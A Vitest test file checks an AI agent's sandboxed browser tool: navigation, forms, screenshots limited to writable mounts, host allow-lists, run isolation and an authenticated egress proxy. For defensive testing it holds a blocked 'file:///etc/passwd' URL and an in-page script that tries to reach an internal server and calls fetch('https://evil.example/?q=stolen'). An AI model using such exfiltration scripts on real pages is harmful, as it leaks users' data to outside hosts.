import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { BrowserPool } from '../../../../src/main/agent/tools/browser/browser-pool.ts';
import { EgressProxy } from '../../../../src/main/agent/tools/browser/egress-proxy.ts';
import { findBrowser } from '../../../../src/main/agent/tools/browser/find-browser.ts';
import { buildToolbox, type Toolbox } from '../../../../src/main/agent/tools/toolbox.ts';
import { egressGuard } from '../../../../src/main/agent/tools/web/egress-guard.ts';
import { systemClock } from '../../../../src/main/lib/clock.ts';
import { ProcessConfig } from '../../../../src/shared/config/process-config.ts';
import type { JsonObject } from '../../../../src/shared/json.ts';
import { until } from '../../../world/until.ts';
import { refusal, toolCall } from '../tool-call.ts';
import { webServer } from '../web-server.ts';

const hasBrowser = (() => {
  try {
    return findBrowser(process.env) !== '';
  } catch {
    console.warn('SKIPPED: the browser tool, for want of a Chromium; install one or set AGENT_RUNTIME_BROWSER.');
    return false;
  }
})();

const owner = `test-${crypto.randomUUID()}`;
let web: Awaited<ReturnType<typeof webServer>>;
let inside: Awaited<ReturnType<typeof webServer>>;
let pool: BrowserPool;
let folder: string;
let box: Toolbox;

beforeAll(async () => {
  inside = await webServer(
    (_request, response) => void response.setHeader('access-control-allow-origin', '*').end('secret'),
  );
  web = await webServer((incoming, response) => {
    const url = new URL(incoming.url ?? '/', 'http://web');
    if (url.pathname === '/away') return void response.writeHead(302, { location: inside.url }).end();
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end(pages[url.pathname] ?? `<p>sent: ${url.search}</p>`);
  });
  pool = new BrowserPool({
    clock: systemClock,
    env: process.env,
    owner,
    egress: { resolve: async () => ['127.0.0.1'] },
  });
  folder = mkdtempSync(join(tmpdir(), 'browser-'));
  const port = new URL(web.url).port;
  const config = ProcessConfig.parse({
    tools: { browser: { allow_hosts: [web.host, `shop.internal:${port}`] } },
    context: { fileMounts: { out: { path: folder, mode: 'read_write' }, docs: folder } },
  });
  box = buildToolbox(config, { browser: pool });
});
beforeEach(() => {
  web.seen.length = 0;
  inside.seen.length = 0;
});
afterAll(async () => {
  await pool.close();
  expect(left()).toEqual([]);
  await web[Symbol.asyncDispose]();
  await inside[Symbol.asyncDispose]();
  rmSync(folder, { recursive: true });
});

const pages: Record<string, string> = {
  '/': '<title>Shop</title><h1>Welcome</h1><a href="/second">more</a><button onclick="document.body.append(\'clicked\')">Press</button>',
  '/second': '<title>Second</title><p>Another page</p>',
  '/form': '<form action="/sent"><input name="who" aria-label="Name"><button>Send</button></form>',
  '/leak': '',
};

function left(): string[] {
  return readdirSync('/proc').filter((pid) => {
    try {
      return (
        /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/environ`, 'latin1').includes(`AGENT_RUNTIME_SERVER=${owner}:`)
      );
    } catch {
      return false;
    }
  });
}
const use = async (args: JsonObject, run = 'run_1') =>
  (await box.resolve('browser', args).execute(args, toolCall({ run }))).content as JsonObject;

describe.skipIf(!hasBrowser)('the browser tool', () => {
  test('opens, reads, clicks and goes back on one page per run', async () => {
    expect(await use({ action: 'open', url: web.url })).toMatchObject({
      status: 200,
      title: 'Shop',
      text: expect.stringContaining('Welcome'),
    });
    expect((await use({ action: 'outline' }))['outline']).toContain('button "Press"');
    expect((await use({ action: 'click', target: 'text=Press' }))['text']).toContain('clicked');
    expect(await use({ action: 'click', target: 'a' })).toMatchObject({ title: 'Second' });
    expect(await use({ action: 'back' })).toMatchObject({ title: 'Shop' });
    expect((await refusal(() => use({ action: 'read' }, 'run_2'))).message).toBe(
      'No page is open in this run; open one first.',
    );
  });

  test('fills in forms', async () => {
    await use({ action: 'open', url: `${web.url}/form` });
    await use({ action: 'fill', target: '[aria-label=Name]', value: 'Ada' });
    expect((await use({ action: 'click', target: 'role=button[name="Send"]' }))['text']).toBe('sent: ?who=Ada');
  });

  test('says at once what is not on the page, as not done', async () => {
    await use({ action: 'open', url: web.url });
    const error = await refusal(() => use({ action: 'click', target: '#nowhere' }));
    expect([error.code, error.details]).toEqual(['TOOL_FAILED', {}]);
  }, 30_000);

  test('puts screenshots into writable mounts only', async () => {
    await use({ action: 'open', url: web.url });
    expect(await use({ action: 'screenshot', path: 'out/shop.png' })).toMatchObject({ path: 'out/shop.png' });
    expect(readFileSync(join(folder, 'shop.png')).subarray(1, 4).toString()).toBe('PNG');
    expect((await refusal(() => use({ action: 'screenshot', path: 'docs/shop2.png' }))).code).toBe('MOUNT_READ_ONLY');
    expect((await refusal(() => use({ action: 'screenshot', path: 'out/../x.png' }))).code).toBe('PATH_NOT_ALLOWED');
    expect(existsSync(join(folder, 'shop2.png'))).toBe(false);
  });

  test('marks what it reads, and knows what may be done again', async () => {
    const tool = box.resolve('browser', { action: 'read' });
    await use({ action: 'open', url: web.url });
    expect((await tool.execute({ action: 'read' }, toolCall({ run: 'run_1' }))).taint).toEqual(['web:127.0.0.1']);
    expect(['open', 'read', 'click', 'fill', 'press'].map((action) => tool.reachOf?.({ action }))).toEqual([
      'readOnly',
      'readOnly',
      'other',
      'other',
      'other',
    ]);
  });

  test.each([
    'file:///etc/passwd',
    'chrome://version',
    'about:blank',
    'data:text/html,x',
    'javascript:1',
    'view-source:http://a/',
    'nonsense',
  ])('does not open %s', async (url) => {
    expect((await refusal(() => use({ action: 'open', url }))).code).toBe(
      url === 'nonsense' ? 'REQUEST_INVALID' : 'POLICY_EGRESS_DENIED',
    );
  });

  test('does not reach what is not listed: other ports, other names, redirects', async () => {
    for (const url of [
      inside.url,
      inside.url.replace('127.0.0.1', 'localhost'),
      'http://unlisted.example/',
      'https://unlisted.example/',
      `${web.url}/away`,
    ]) {
      expect((await refusal(() => use({ action: 'open', url }, 'run_3'))).code).toBe('POLICY_EGRESS_DENIED');
    }
    expect(inside.seen).toEqual([]);
  });

  test('lets no page reach further than the agent may, and tells what was not reached', async () => {
    pages['/leak'] = `<body><script>
      const tries = [
        fetch('${inside.url}').then(r => r.text()),
        fetch('${inside.url.replace('127.0.0.1', '[::1]')}').then(r => r.text()),
        new Promise((ok, no) => { const s = new WebSocket('${inside.url.replace('http', 'ws')}'); s.onopen = ok; s.onerror = no; }),
        fetch('https://evil.example/?q=stolen'),
      ];
      new Image().src = '${inside.url}/pixel';
      location.hash = '#go';
      Promise.allSettled(tries).then(all => document.body.append(all.map(one => one.status).join(' ')));
    </script>`;
    await use({ action: 'open', url: `${web.url}/leak` }, 'run_4');
    const read = await use({ action: 'read', target: 'text=rejected' }, 'run_4');
    expect(read['text']).toBe('rejected rejected rejected rejected');
    expect(inside.seen).toEqual([]);
  });

  test('connects to the address that was checked', async () => {
    const port = new URL(web.url).port;
    expect(await use({ action: 'open', url: `http://shop.internal:${port}/` }, 'run_5')).toMatchObject({
      title: 'Shop',
    });
    expect(web.seen[0]?.headers.host).toBe(`shop.internal:${port}`);
  });

  test('keeps runs apart', async () => {
    pages['/cookie'] = '<script>document.cookie = "a=1"</script>';
    await use({ action: 'open', url: `${web.url}/cookie` }, 'run_6');
    await use({ action: 'open', url: web.url }, 'run_6');
    await use({ action: 'open', url: web.url }, 'run_7');
    const cookies = web.seen.filter(({ url }) => url === '/').map(({ headers }) => headers.cookie);
    expect(cookies).toEqual(['a=1', undefined]);
  });

  test('ends with the last page, with all its processes, and comes back', async () => {
    await use({ action: 'open', url: web.url }, 'run_8');
    expect(left().length).toBeGreaterThan(1);
    for (const run of ['run_1', 'run_3', 'run_4', 'run_5', 'run_6', 'run_7', 'run_8']) await pool.closePage(run);
    await until(() => left().length === 0);
    expect(await use({ action: 'open', url: web.url }, 'run_9')).toMatchObject({ title: 'Shop' });
  });

  test('that was killed is started again', async () => {
    await use({ action: 'open', url: web.url }, 'run_9');
    for (const pid of left()) process.kill(Number(pid), 'SIGKILL');
    await refusal(() => use({ action: 'click', target: 'a' }, 'run_9'));
    expect(await use({ action: 'open', url: web.url }, 'run_10')).toMatchObject({ title: 'Shop' });
  });
});

test('the browser is off unless hosts are listed, and needs a runtime that has one', async () => {
  const names = (tools: object) =>
    buildToolbox(ProcessConfig.parse({ tools }), { browser: pool }).tools.map(({ name }) => name);
  expect(names({})).not.toContain('browser');
  expect(names({ browser: true })).not.toContain('browser');
  const listed = ProcessConfig.parse({ tools: { browser: { allow_hosts: ['a.example'] } } });
  expect((await refusal(() => buildToolbox(listed, {}))).code).toBe('NOT_SUPPORTED');
});

test('a machine without a browser is told what to do', async () => {
  expect((await refusal(() => findBrowser({ AGENT_RUNTIME_BROWSER: '/none' }))).message).toContain(
    'AGENT_RUNTIME_BROWSER',
  );
});

test('the proxy serves nobody without its credentials, nor after they were taken back', async () => {
  const proxy = await EgressProxy.open();
  const pass = proxy.admit(egressGuard({ allowHosts: [web.host] }));
  const ask = (credentials?: string) =>
    new Promise<number>((resolve) => {
      const headers = credentials
        ? { 'proxy-authorization': `Basic ${Buffer.from(credentials).toString('base64')}` }
        : {};
      request({ port: proxy.port, host: '127.0.0.1', path: web.url, headers }, (response) =>
        resolve(response.resume().statusCode ?? 0),
      ).end();
    });
  expect([await ask(), await ask('a:b'), await ask(`${pass.username}:wrong`)]).toEqual([407, 407, 407]);
  expect(await ask(`${pass.username}:${pass.password}`)).toBe(200);
  pass.revoke();
  expect(await ask(`${pass.username}:${pass.password}`)).toBe(407);
  expect(web.seen).toHaveLength(1);
  await proxy.close();
});
